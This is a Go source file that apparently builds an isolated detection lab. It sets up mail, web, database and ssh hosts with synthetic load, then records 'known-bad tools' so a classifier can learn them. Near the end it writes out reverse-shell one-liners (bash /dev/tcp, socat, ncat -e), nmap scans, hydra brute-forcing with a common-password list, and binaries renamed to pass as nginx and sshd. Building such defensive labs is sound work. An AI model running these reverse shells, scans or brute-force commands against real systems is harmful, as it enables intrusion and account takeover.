package lab

import (
	"bufio"
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
)

// The services lab's hosts: their files (written by the lab into its
// state directory), the start of every host's first process (its own
// /etc and directories), and what each host runs.

// hostFiles are the lab's files for the hosts and the scripts that start
// their daemons and load.
type hostFiles struct {
	state   string
	pgBin   string
	scripts map[string]string
}

// Lab users on the mail and client hosts (made in their /etc overlay).
const (
	labUID, lab2UID = 2001, 2002
	mailPass        = "lab-mail-pass"
)

// prologue is the start of host h's first process: its hostname, /etc
// as an overlay whose changes land in a tmpfs, tmpfs mounts over the
// directories daemons write, none of the machine's cron jobs, the lab's
// names, and the lab users.
func (f *hostFiles) prologue(h serviceHost) string {
	dir := filepath.Join(f.state, h.Name)
	var hosts strings.Builder
	for _, o := range serviceHosts {
		fmt.Fprintf(&hosts, "%s %s %s.lab.invalid\n", o.IP, o.Name, o.Name)
	}
	return fmt.Sprintf(`set -e
hostname %[1]s
mount --make-rprivate /
mkdir -p %[2]s/ovl %[2]s/tmp
mount -t tmpfs lab %[2]s/ovl && mkdir %[2]s/ovl/up %[2]s/ovl/work
mount -t overlay lab -o lowerdir=/etc,upperdir=%[2]s/ovl/up,workdir=%[2]s/ovl/work /etc
for d in %[3]s; do
  if [ -d "$d" ]; then mount -t tmpfs -o mode=0755 lab "$d"; fi
done
chmod 1777 %[2]s/tmp /dev/shm
if [ -d /var/mail ]; then chgrp mail /var/mail && chmod 2775 /var/mail; fi
mkdir -p /run/sshd /run/postgresql /run/dovecot /var/spool/cron/crontabs /var/log/nginx
chown postgres:postgres /run/postgresql
rm -f /etc/cron.d/* /etc/crontab /etc/cron.hourly/* /etc/cron.daily/* /etc/cron.weekly/* /etc/cron.monthly/*
echo %[1]s > /etc/hostname
cat >> /etc/hosts <<'EOF'
%[4]sEOF
export TMPDIR=%[2]s/tmp HOME=/root
useradd -u %[5]d -m -s /bin/bash lab
useradd -u %[6]d -m -s /bin/bash lab2
mkdir -p /home/lab/Mail /home/lab2/Mail && chown lab /home/lab/Mail && chown lab2 /home/lab2/Mail
cd %[2]s
set +e
`, h.Name, dir, strings.Join(servicesMounts[1:], " "), hosts.String(), labUID, lab2UID)
}

// writeHostFiles writes every host's configuration into state and makes
// the scripts that start each host's daemons and load generators.
func (l *servicesLab) writeHostFiles(state string) (*hostFiles, error) {
	pgBin, err := postgresBin()
	if err != nil {
		return nil, err
	}
	f := &hostFiles{state: state, pgBin: pgBin, scripts: map[string]string{}}
	for _, d := range []string{"bin", "tmp", "mail", "client", "web"} {
		if err := os.MkdirAll(filepath.Join(state, d), 0o755); err != nil {
			return nil, err
		}
	}
	if err := os.Chmod(filepath.Join(state, "tmp"), 0o1777); err != nil {
		return nil, err
	}
	// labrun: the shell that drives the known-bad tools, under a name of
	// its own.
	if err := copyFile("/bin/sh", filepath.Join(state, "bin", "labrun"), 0o755); err != nil {
		return nil, err
	}
	pf, err := user.Lookup("postfix")
	if err != nil {
		return nil, err
	}
	pfUID, _ := strconv.Atoi(pf.Uid)
	if err := writePasswords(filepath.Join(state, "passwords.lst")); err != nil {
		return nil, err
	}
	mail, web := serviceHosts[0], serviceHosts[2]
	write := func(path, body string, mode os.FileMode) {
		if err == nil {
			err = os.WriteFile(path, []byte(body), mode)
		}
	}

	// --- mail: postfix + procmail, dovecot, rsyslogd, cron ---
	md := filepath.Join(state, "mail")
	if err := writePostfix(filepath.Join(md, "postfix"), "mail", "all", pfUID); err != nil {
		return nil, err
	}
	setPostfix(filepath.Join(md, "postfix", "conf", "main.cf"), fmt.Sprintf(`myhostname = mail.lab.invalid
mydestination = mail.lab.invalid, mail, localhost
mynetworks = %s.0/24 127.0.0.0/8
mailbox_command = /usr/bin/procmail -a "$EXTENSION"
local_recipient_maps = proxy:unix:passwd.byname
inet_interfaces = all
`, servicesSubnet), &err)
	write(filepath.Join(md, "dovecot.conf"), fmt.Sprintf(`protocols = imap pop3
listen = *
base_dir = /run/dovecot
state_dir = %[1]s/dovecot-state
ssl = no
disable_plaintext_auth = no
auth_mechanisms = plain login
log_path = %[1]s/dovecot.log
mail_location = mbox:~/mail:INBOX=/var/mail/%%u
mail_privileged_group = mail
mbox_write_locks = fcntl
first_valid_uid = %[2]d
default_internal_user = dovecot
default_login_user = dovenull
passdb {
  driver = passwd-file
  args = %[1]s/dovecot-users
}
userdb {
  driver = passwd-file
  args = %[1]s/dovecot-users
}
protocol pop3 {
  pop3_uidl_format = %%08Xu%%08Xv
}
`, md, labUID), 0o644)
	write(filepath.Join(md, "dovecot-users"), fmt.Sprintf("lab:{PLAIN}%[1]s:%[2]d:%[2]d::/home/lab::\nlab2:{PLAIN}%[1]s:%[3]d:%[3]d::/home/lab2::\n", mailPass, labUID, lab2UID), 0o644)
	if err := os.MkdirAll(filepath.Join(md, "dovecot-state"), 0o755); err != nil {
		return nil, err
	}
	write(filepath.Join(md, "rsyslog.conf"), fmt.Sprintf(`global(workDirectory="%[1]s/rsyslog")
module(load="imudp")
input(type="imudp" port="514")
module(load="imuxsock" SysSock.Use="off")
input(type="imuxsock" Socket="/run/lab-log")
*.* action(type="omfile" file="%[1]s/rsyslog/messages")
mail.* action(type="omfile" file="%[1]s/rsyslog/mail.log")
`, md), 0o644)
	if err := os.MkdirAll(filepath.Join(md, "rsyslog"), 0o755); err != nil {
		return nil, err
	}
	f.scripts["mail"] = fmt.Sprintf(`postfix -c %[1]s/postfix/conf start-fg &
dovecot -F -c %[1]s/dovecot.conf &
rsyslogd -n -f %[1]s/rsyslog.conf -i /run/rsyslogd.pid &
cat > /etc/cron.d/lab <<'EOF'
* * * * * root tar -czf %[1]s/tmp/mail-backup.tgz /var/mail 2>/dev/null; gzip -c %[1]s/rsyslog/messages > %[1]s/tmp/messages.gz 2>/dev/null; logger -u /run/lab-log -t backup done
EOF
cron -f -L 0 &
# Local administration: mailbox sizes and log lines, now and then.
(while :; do sleep 7; du -s /var/mail >/dev/null 2>&1; logger -u /run/lab-log -p mail.info -t admin "mailboxes checked"; done) &
`, md)

	// --- client: fetchmail + procmail + postfix relay; developer work; clients ---
	cd := filepath.Join(state, "client")
	if err := writePostfix(filepath.Join(cd, "postfix"), "client", "127.0.0.1", pfUID); err != nil {
		return nil, err
	}
	setPostfix(filepath.Join(cd, "postfix", "conf", "main.cf"), fmt.Sprintf(`myhostname = client.lab.invalid
mydestination = client.lab.invalid, localhost
relayhost = [%s]
inet_interfaces = loopback-only
`, mail.IP), &err)
	// postfix's sendmail and postdrop find this instance through
	// /etc/postfix (the host's overlay) naming it.
	setPostfix(filepath.Join(cd, "postfix", "conf", "main.cf"), "alternate_config_directories = "+filepath.Join(cd, "postfix", "conf")+"\n", &err)
	write(filepath.Join(cd, "fetchmailrc"), fmt.Sprintf(`set daemon 3
set no bouncemail
poll %[1]s protocol pop3 user "lab" password "%[2]s" is lab here sslproto '' fetchall mda "/usr/bin/procmail -d lab"
poll %[1]s protocol imap user "lab2" password "%[2]s" is lab2 here sslproto '' fetchall mda "/usr/bin/procmail -d lab2"
`, mail.IP, mailPass), 0o600)
	// procmail on the client forwards what asks for it back to mail (for
	// lab2, whom fetchmail pulls over IMAP) and files the rest.
	write(filepath.Join(cd, "procmailrc-lab"), `MAILDIR=$HOME/Mail
LOGFILE=$HOME/procmail.log
:0
* ^Subject:.*forward
! lab2@mail.lab.invalid
:0:
* ^Subject:.*report
reports
:0:
inbox
`, 0o644)
	write(filepath.Join(cd, "procmailrc-lab2"), `MAILDIR=$HOME/Mail
:0:
forwarded
`, 0o644)
	write(filepath.Join(cd, "prog.c"), compileWorkload, 0o644)
	if err := os.MkdirAll(filepath.Join(cd, "ssh"), 0o700); err != nil {
		return nil, err
	}
	if out, kerr := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "lab", "-f", filepath.Join(cd, "ssh", "id")).CombinedOutput(); kerr != nil {
		return nil, fmt.Errorf("ssh-keygen: %w: %s", kerr, out)
	}
	webURL := "http://" + web.IP
	sshTo := fmt.Sprintf("ssh -i %s/ssh/id -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=error root@%s", cd, web.IP)
	f.scripts["client"] = fmt.Sprintf(`postfix -c %[1]s/postfix/conf start-fg &
cp %[1]s/postfix/conf/main.cf /etc/postfix/main.cf
cp %[1]s/procmailrc-lab /home/lab/.procmailrc && chown lab /home/lab/.procmailrc
cp %[1]s/procmailrc-lab2 /home/lab2/.procmailrc && chown lab2 /home/lab2/.procmailrc
export MAIL_CONFIG=%[1]s/postfix/conf
# seed 001's chain: mail sent through the client's postfix to mail,
# pulled back by fetchmail, dispatched by procmail (some forwarded again).
(sleep 3; i=0; while :; do i=$((i+1))
  case $((i %% 3)) in 0) s="forward $i";; 1) s="report $i";; *) s="note $i";; esac
  printf 'From: lab@client.lab.invalid\nTo: lab@mail.lab.invalid\nSubject: %%s\n\nmessage %%s from the client\n%%s\n' "$s" "$i" "$(head -c 600 /usr/share/common-licenses/GPL-3 | tail -c 300)" | sendmail -f lab@client.lab.invalid lab@mail.lab.invalid
  sleep 2; done) &
(sleep 5; exec fetchmail -f %[1]s/fetchmailrc --nodetach -i %[1]s/fetchids --pidfile %[1]s/fetchmail.pid) &
# A developer: commits, archives and builds.
(mkdir -p %[1]s/work && cd %[1]s/work && git init -q repo && cd repo && git config user.email lab@client && git config user.name lab
 i=0; while :; do i=$((i+1))
   head -c 4000 /usr/share/common-licenses/GPL-3 > f$((i %% 20)).txt; echo $i >> log.txt
   git add -A && git commit -qm "change $i" && git log --oneline | head -3 >/dev/null; git gc -q --auto
   tar -cf %[1]s/tmp/src.tar . && gzip -f %[1]s/tmp/src.tar && gzip -dc %[1]s/tmp/src.tar.gz | tar -tf - >/dev/null
   sleep 3; done) &
(cd %[1]s && while :; do gcc -O2 -o %[1]s/tmp/prog prog.c && %[1]s/tmp/prog >/dev/null; sleep 4; done) &
# Sessions on web: an administrator's commands over ssh.
(sleep 2; while :; do %[2]s 'for i in $(seq 30); do ps aux | wc -l; ls -la /etc | tail -n 2; cat /proc/loadavg; sleep 1; done' >/dev/null; sleep 2; done) &
(sleep 4; while :; do %[2]s 'top -b -d 1 -n 40' >/dev/null; sleep 1; done) &
(sleep 2; while :; do %[2]s 'uptime; df -h; tail -n 5 /var/log/nginx/access.log' >/dev/null; sleep 5; done) &
# Web, database and cache clients.
(while :; do curl -s -m 5 ftp://%[4]s/release.txt >/dev/null; sleep 2; done) &
(while :; do curl -s -m 5 %[3]s/ >/dev/null; curl -s -m 5 %[3]s/app/items >/dev/null; curl -s -m 5 %[3]s:8080/ >/dev/null; sleep 1; done) &
(sleep 10; while :; do wrk -t1 -c2 -d3s %[3]s/app/ >/dev/null; sleep 12; done) &
(while :; do (while :; do echo "insert into items(name) values ('n'||random()); select count(*) from items; select name from items order by id desc limit 5;"; sleep 1; done) | psql -h %[4]s -U postgres -d lab -At >/dev/null; sleep 2; done) &
(while :; do psql -h %[4]s -U postgres -d lab -Atc "select count(*), max(id) from items" >/dev/null; sleep 5; done) &
(pgbench -h %[4]s -U postgres -i -s 1 lab >/dev/null 2>&1; while :; do pgbench -h %[4]s -U postgres -c 2 -T 6 -R 30 lab >/dev/null 2>&1; sleep 8; done) &
(while :; do redis-cli -h %[4]s -r -1 -i 1 incr hits >/dev/null; sleep 2; done) &
(while :; do redis-cli -h %[4]s lpush recent "$(date +%%s)" >/dev/null; redis-cli -h %[4]s ltrim recent 0 99 >/dev/null; sleep 3; done) &
(while :; do (while :; do echo "client heartbeat"; sleep 1; done) | logger -n %[5]s -P 514 -t client; sleep 2; done) &
(while :; do vmstat 1 >/dev/null; sleep 2; done) &
(while :; do ping -q -i 1 -c 60 %[5]s >/dev/null; done) &
`, cd, sshTo, webURL, web.IP, mail.IP)

	// --- web: nginx + python3 app, apache2, postgresql, redis-server, sshd ---
	wd := filepath.Join(state, "web")
	for _, d := range []string{"www", "nginx-tmp", "redis", "pg", "ftp"} {
		if err := os.MkdirAll(filepath.Join(wd, d), 0o755); err != nil {
			return nil, err
		}
	}
	write(filepath.Join(wd, "www", "index.html"), "<html><body><p>lab web host</p></body></html>\n", 0o644)
	write(filepath.Join(wd, "nginx.conf"), fmt.Sprintf(`worker_processes 2;
pid /run/nginx.pid;
error_log %[1]s/nginx-error.log;
events { worker_connections 256; }
http {
  access_log /var/log/nginx/access.log;
  client_body_temp_path %[1]s/nginx-tmp/body;
  proxy_temp_path %[1]s/nginx-tmp/proxy;
  fastcgi_temp_path %[1]s/nginx-tmp/fastcgi;
  uwsgi_temp_path %[1]s/nginx-tmp/uwsgi;
  scgi_temp_path %[1]s/nginx-tmp/scgi;
  include /etc/nginx/mime.types;
  server {
    listen 80;
    root %[1]s/www;
    location /app/ { proxy_pass http://127.0.0.1:8000/; }
  }
}
`, wd), 0o644)
	write(filepath.Join(wd, "app.py"), webApp, 0o644)
	write(filepath.Join(wd, "ftp", "release.txt"), strings.Repeat("lab release notes\n", 200), 0o644)
	write(filepath.Join(wd, "vsftpd.conf"), fmt.Sprintf(`listen=YES
listen_ipv6=NO
anonymous_enable=YES
anon_root=%[1]s/ftp
no_anon_password=YES
local_enable=YES
write_enable=NO
secure_chroot_dir=/run/vsftpd/empty
pam_service_name=vsftpd
xferlog_enable=NO
vsftpd_log_file=%[1]s/vsftpd.log
`, wd), 0o644)
	write(filepath.Join(wd, "apache2.conf"), apacheConfig(wd, "web", 8080)+fmt.Sprintf("DocumentRoot %s/www\nDirectoryIndex index.html\nStartServers 2\nMinSpareServers 1\nMaxSpareServers 3\n", wd), 0o644)
	write(filepath.Join(wd, "redis.conf"), fmt.Sprintf(`port 6379
bind 0.0.0.0
protected-mode no
daemonize no
dir %[1]s/redis
logfile %[1]s/redis/redis.log
save 10 1
`, wd), 0o644)
	write(filepath.Join(wd, "sshd_config"), fmt.Sprintf(`Port 22
ListenAddress 0.0.0.0
HostKey %[1]s/ssh_host_ed25519_key
PidFile /run/sshd.pid
PermitRootLogin prohibit-password
AuthorizedKeysFile %[1]s/authorized_keys
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
MaxStartups 100:30:200
MaxAuthTries 6
LogLevel INFO
`, wd), 0o644)
	if out, kerr := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", filepath.Join(wd, "ssh_host_ed25519_key")).CombinedOutput(); kerr != nil {
		return nil, fmt.Errorf("ssh-keygen: %w: %s", kerr, out)
	}
	if pub, rerr := os.ReadFile(filepath.Join(cd, "ssh", "id.pub")); rerr != nil {
		return nil, rerr
	} else {
		write(filepath.Join(wd, "authorized_keys"), string(pub), 0o644)
	}
	pw := make([]byte, 12)
	if _, err := rand.Read(pw); err != nil {
		return nil, err
	}
	// lab's password on web is random (not in any list the password
	// guesser tries); root's is "*", which matches no password.
	f.scripts["web"] = fmt.Sprintf(`echo 'lab:%[3]s' | chpasswd
usermod -p '*' root
chown postgres:postgres %[1]s/pg && chmod 0700 %[1]s/pg
chown redis:redis %[1]s/redis
runuser -u postgres -- %[2]s/initdb -D %[1]s/pg -A trust -U postgres >%[1]s/initdb.log 2>&1
echo "host all all %[4]s.0/24 trust" >> %[1]s/pg/pg_hba.conf
runuser -u postgres -- %[2]s/postgres -D %[1]s/pg -k /run/postgresql -c listen_addresses='*' -c logging_collector=off >%[1]s/postgres.log 2>&1 &
(for i in $(seq 60); do runuser -u postgres -- psql -h /run/postgresql -Atc 'select 1' >/dev/null 2>&1 && break; sleep 0.5; done
 runuser -u postgres -- createdb -h /run/postgresql lab
 runuser -u postgres -- psql -h /run/postgresql -d lab -c 'create table items(id serial primary key, name text)' >/dev/null) &
runuser -u redis -- redis-server %[1]s/redis.conf &
nginx -c %[1]s/nginx.conf -g 'daemon off;' &
(cd %[1]s && exec runuser -u www-data -- python3 app.py) &
apache2 -f %[1]s/apache2.conf -DFOREGROUND &
/usr/sbin/sshd -D -f %[1]s/sshd_config -E %[1]s/sshd.log &
mkdir -p /run/vsftpd/empty && /usr/sbin/vsftpd %[1]s/vsftpd.conf &
(while :; do (while :; do echo "web heartbeat"; sleep 1; done) | logger -n %[5]s -P 514 -t web; sleep 2; done) &
(sleep 3; while :; do tail -F -n 0 /var/log/nginx/access.log >/dev/null; sleep 2; done) &
(while :; do top -b -d 2 >/dev/null; sleep 2; done) &
`, wd, pgBin, hex.EncodeToString(pw), servicesSubnet, mail.IP)
	if err != nil {
		return nil, err
	}
	return f, nil
}

// setPostfix sets the "key = value" lines of settings in the postfix
// main.cf at path, replacing the lines of the same keys.
func setPostfix(path, settings string, err *error) {
	if *err != nil {
		return
	}
	b, e := os.ReadFile(path)
	if e != nil {
		*err = e
		return
	}
	set := map[string]bool{}
	for _, line := range strings.Split(settings, "\n") {
		if k, _, ok := strings.Cut(line, "="); ok {
			set[strings.TrimSpace(k)] = true
		}
	}
	var out []string
	for _, line := range strings.Split(strings.TrimRight(string(b), "\n"), "\n") {
		if k, _, ok := strings.Cut(line, "="); ok && set[strings.TrimSpace(k)] {
			continue
		}
		out = append(out, line)
	}
	*err = os.WriteFile(path, []byte(strings.Join(out, "\n")+"\n"+settings), 0o644)
}

func copyFile(from, to string, mode os.FileMode) error {
	b, err := os.ReadFile(from)
	if err != nil {
		return err
	}
	return os.WriteFile(to, b, mode)
}

// webApp is the web host's application: a few JSON pages computed from
// a small in-memory database.
const webApp = `import http.server, json, sqlite3, socketserver, hashlib, time

db = sqlite3.connect(":memory:", check_same_thread=False)
db.execute("create table hits(path text, at real)")

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        db.execute("insert into hits values (?, ?)", (self.path, time.time()))
        n = db.execute("select count(*) from hits").fetchone()[0]
        digest = hashlib.sha256(("%s %d" % (self.path, n)).encode()).hexdigest()
        with open("/etc/hostname") as f:
            host = f.read().strip()
        body = json.dumps({"path": self.path, "hits": n, "digest": digest, "host": host,
                           "squares": sum(i * i for i in range(2000))}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass

class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True

Server(("127.0.0.1", 8000), Handler).serve_forever()
`

// compileWorkload is the client's compiler run: a program with some work
// for the optimiser.
const compileWorkload = `#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct item { char name[32]; double weight; int count; };

static int cmp(const void *a, const void *b)
{
	const struct item *x = a, *y = b;
	return (x->weight > y->weight) - (x->weight < y->weight);
}

int main(void)
{
	static struct item items[4096];
	for (int i = 0; i < 4096; i++) {
		snprintf(items[i].name, sizeof items[i].name, "item-%d", i);
		items[i].weight = (double)((i * 7919) % 4093) / 3.0;
		items[i].count = i % 17;
	}
	qsort(items, 4096, sizeof items[0], cmp);
	double total = 0;
	for (int i = 0; i < 4096; i++)
		total += items[i].weight * items[i].count;
	printf("%s %.2f\n", items[0].name, total);
	return 0;
}
`

// A known-bad tool of the lab: its class, the process names its
// recorder keeps, and the script that runs it for the recording ($END
// is when to stop; left prints the seconds left).
type badTool struct {
	class  string
	procs  []string
	script func(state string) string
}

// reverseShells are the reverse shells, one after the other, each
// connecting to its listener in the router namespace.
var reverseShells = []string{
	"bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1'",
	"socat TCP:%s:%d EXEC:/bin/sh",
	"ncat %s %d -e /bin/sh",
}

var nongrata = []badTool{
	{"reverse-shell", []string{"bash", "socat", "ncat", "sh"}, func(string) string {
		var b strings.Builder
		for i, rs := range reverseShells {
			// Each takes its share of the time left.
			fmt.Fprintf(&b, "t=$(( $(left) / %d )); [ $t -gt 0 ] && timeout $t %s </dev/null >/dev/null 2>&1 || true\n", len(reverseShells)-i, fmt.Sprintf(rs, routerIP, 4441+i))
		}
		return b.String()
	}},
	{"miner", []string{"stress-ng", "stress-ng-cpu", "openssl"}, func(string) string {
		return `t=$(( $(left) / 2 )); nice -n 10 stress-ng --cpu 1 --cpu-load 30 --timeout ${t}s >/dev/null 2>&1 || true
while [ $(left) -gt 2 ]; do nice -n 10 openssl speed -seconds 1 -bytes 1024 sha256 >/dev/null 2>&1; sleep 1; done
`
	}},
	{"scanner", []string{"nmap"}, func(string) string {
		return fmt.Sprintf(`while [ $(left) -gt 5 ]; do
  timeout $(left) nmap -sT -n -Pn --max-rate 300 -p 1-1024 %[1]s.1-3 >/dev/null 2>&1
  timeout $(left) nmap -sS -n -Pn --max-rate 300 -p 1-2000 %[1]s.1-3 >/dev/null 2>&1
  timeout $(left) nmap -sV -n -Pn -p 22,25,80,110,143,5432,6379,8080 %[1]s.1-3 >/dev/null 2>&1
done
`, servicesSubnet)
	}},
	{"bruteforce", []string{"hydra"}, func(state string) string {
		return fmt.Sprintf(`while [ $(left) -gt 5 ]; do
  timeout $(left) hydra -I -l lab -P %[1]s/passwords.lst -t 2 -W 1 ssh://%[2]s >/dev/null 2>&1
  timeout $(left) hydra -I -l lab -P %[1]s/passwords.lst -t 2 ftp://%[2]s >/dev/null 2>&1
  timeout $(left) hydra -I -l root -P %[1]s/passwords.lst -t 2 -W 1 ssh://%[2]s >/dev/null 2>&1
done
`, state, serviceHosts[2].IP)
	}},
}

// A masquerading program: a known program under another's name.
type masquerade struct {
	name, what string
	script     func(state string) string
}

var masquerades = []masquerade{
	{"nginx", "ncat (the nc of this machine) copied to /usr/local/bin/nginx (a tmpfs of its namespace), listening and taking the lines a client sends it every half second", func(state string) string {
		return fmt.Sprintf(`d=%[1]s/bin
# /usr/local/bin of this namespace alone: a tmpfs over it.
if [ -d /usr/local/bin ] && mount -t tmpfs lab /usr/local/bin; then d=/usr/local/bin; fi
cp "$(readlink -f "$(command -v nc || command -v ncat)")" $d/nginx
$d/nginx -l -k -p 8088 >/dev/null 2>&1 &
n=$!
sleep 0.5
while [ $(left) -gt 2 ]; do
  (while [ $(left) -gt 1 ]; do echo "GET / $(date +%%s%%N)"; sleep 0.5; done) | ncat --send-only 127.0.0.1 8088 2>/dev/null
  sleep 0.5
done
kill $n
`, state)
	}},
	{"sshd", "bash copied to /usr/local/sbin/sshd (a tmpfs of its namespace), running an administrator's command loop (ls, id, ps, a file read) every second", func(state string) string {
		return fmt.Sprintf(`d=%[1]s/bin
if [ -d /usr/local/sbin ] && mount -t tmpfs lab /usr/local/sbin; then d=/usr/local/sbin; fi
cp /bin/bash $d/sshd
(while [ $(left) -gt 1 ]; do echo 'ls -la /etc >/dev/null; id >/dev/null; ps aux >/dev/null; cat /etc/hostname >/dev/null'; sleep 1; done) | $d/sshd -s >/dev/null 2>&1
`, state)
	}},
}

const masqueradeReadme = `Masquerading programs recorded by vigil lab services, each in a pid
namespace of its own, its recorder keeping the one process name:

nginx.jsonl  ncat (the nc of this machine) copied to /usr/local/bin/nginx (a
             tmpfs mounted in its own mount namespace: the machine's
             /usr/local/bin is untouched), listening on a port and taking the
             lines a client sends it every half second. A classifier that knows nginx should not take it
             for nginx.
sshd.jsonl   bash copied to /usr/local/sbin/sshd (likewise a tmpfs of its own
             namespace), reading an administrator's
             commands (ls, id, ps, a file read) once a second from a pipe and
             running them. A classifier that knows sshd should not take it
             for sshd.
`

// writePasswords writes the password guesser's list: nmap's list of
// common passwords (its first entries), or a built-in one.
func writePasswords(path string) error {
	var words []string
	if fh, err := os.Open("/usr/share/nmap/nselib/data/passwords.lst"); err == nil {
		sc := bufio.NewScanner(fh)
		for sc.Scan() && len(words) < 400 {
			w := strings.TrimSpace(sc.Text())
			if w != "" && !strings.HasPrefix(w, "#!") {
				words = append(words, w)
			}
		}
		fh.Close()
	}
	if len(words) == 0 {
		words = strings.Fields("123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon 123123 baseball abc123 football monkey letmein shadow master 666666 qwertyuiop 123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 000000 qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter buster soccer harley batman andrew tigger sunshine iloveyou 2000 charlie robert thomas hockey ranger daniel starwars klaster 112233 george computer michelle jessica pepper 1111 zxcvbn 555555 11111111 131313 freedom 777777 pass maggie 159753 aaaaaa ginger princess joshua cheese amanda summer love ashley 6969 nicole chelsea biteme matthew access yankees 987654321 dallas austin thunder taylor matrix")
	}
	return os.WriteFile(path, []byte(strings.Join(words, "\n")+"\n"), 0o644)
}
